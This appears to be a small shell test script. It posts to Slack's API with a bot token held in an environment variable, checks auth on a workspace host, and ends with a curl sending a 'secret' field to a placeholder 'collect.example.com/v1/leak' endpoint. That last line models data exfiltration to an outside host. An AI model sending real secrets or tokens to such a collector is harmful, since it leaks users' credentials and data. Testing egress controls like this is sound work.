# The address stands in the script; so does one of somebody else.
set -e
curl -sS --fail -H "Authorization: Bearer $SLACK_BOT_TOKEN" -d channel='#general' -d text='from curl' https://slack.com/api/chat.postMessage
echo
# A workspace's own host answers too.
curl -sS --fail -H "Authorization: Bearer $SLACK_BOT_TOKEN" -X POST https://acme.slack.com/api/auth.test
curl -sS -o /dev/null -w '\n%{http_code}\n' -d secret=1 https://collect.example.com/v1/leak
